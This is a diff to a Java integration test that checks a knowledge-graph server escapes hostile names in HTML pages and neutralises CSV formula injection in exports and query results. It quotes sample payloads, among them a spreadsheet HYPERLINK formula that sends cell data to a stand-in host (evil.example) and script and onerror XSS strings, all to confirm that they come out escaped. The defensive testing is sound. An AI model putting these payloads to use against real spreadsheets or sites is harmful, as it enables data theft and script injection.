@@ -18,6 +18,7 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.scamkg.TestProject;
+import org.scamkg.export.CsvExport;
 import org.scamkg.store.KgStore;
 import org.scamkg.store.StoreLoader;
 
@@ -33,6 +34,7 @@ class HostileLabelsIT {
         Path store = dir.resolve("store");
         try (KgStore s = KgStore.open(TestProject.CONFIG, store)) {
             StoreLoader.load(s, TestProject.withData(data));
+            CsvExport.write(s.dataset(), dir.resolve("csv"));
         }
         server = KgServer.create(new ServerOptions("127.0.0.1", 0, store, TestProject.CONFIG, TestProject.QUERIES, Optional.empty(), 10)).start();
     }
@@ -53,11 +55,43 @@ class HostileLabelsIT {
         assertTrue(page.contains("&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;"), "the name, escaped");
     }
 
+    /**
+     * CSV formula injection (issue 17 item 9): names that begin with =, +, - or @ reach every CSV
+     * (the export, the query API, /kg/sparql) with a leading apostrophe, so a spreadsheet shows
+     * them as text and runs nothing.
+     */
+    @Test
+    void csvNeverStartsACellWithAFormula() throws Exception {
+        String sparql = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/kg/sparql?query="
+                + URLEncoder.encode("SELECT ?name ?n { ?p <http://www.w3.org/2000/01/rdf-schema#label>|<http://www.w3.org/2004/02/skos/core#altLabel> ?name BIND(-5 AS ?n) }", StandardCharsets.UTF_8)))
+                .header("Accept", "text/csv").build(), HttpResponse.BodyHandlers.ofString()).body();
+        assertNoFormula(sparql);
+        assertTrue(sparql.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""), sparql);
+        assertTrue(sparql.contains("'+1+1") && sparql.contains("'@SUM(A1:A9)") && sparql.contains("'-2+3"), sparql);
+        assertTrue(sparql.contains(",-5\r\n"), "numbers stay numbers: " + sparql);
+
+        String api = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/queries/name-variants?format=csv&entity="
+                + URLEncoder.encode("person/formula-man", StandardCharsets.UTF_8))).build(), HttpResponse.BodyHandlers.ofString()).body();
+        assertNoFormula(api);
+        assertTrue(api.contains("'=HYPERLINK"), api);
+
+        String export = java.nio.file.Files.readString(dir.resolve("csv/persons.csv"));
+        assertNoFormula(export);
+        assertTrue(export.contains("'=HYPERLINK"), export);
+    }
+
+    static void assertNoFormula(String csv) {
+        for (String line : csv.split("\r?\n"))
+            // the one number column of the /kg/sparql probe (-5) is a number, not a formula
+            assertFalse(java.util.regex.Pattern.compile("(^|,)\"?[=+@\t-]").matcher(line.replaceAll(",-5$", "")).find(), "a cell starts a formula: " + line);
+    }
+
     @Test
     void entityPageEscapesTheName() throws Exception {
         String page = html("/id/person/lena-vos");
         assertEscaped(page);
-        assertTrue(page.contains("&lt;img src=x onerror=alert(1)&gt;"), "the alias, escaped");
+        // The page's template engine also escapes '=': the alias reads the same in a browser.
+        assertTrue(page.contains("&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;"), "the alias, escaped");
     }
 
     @Test
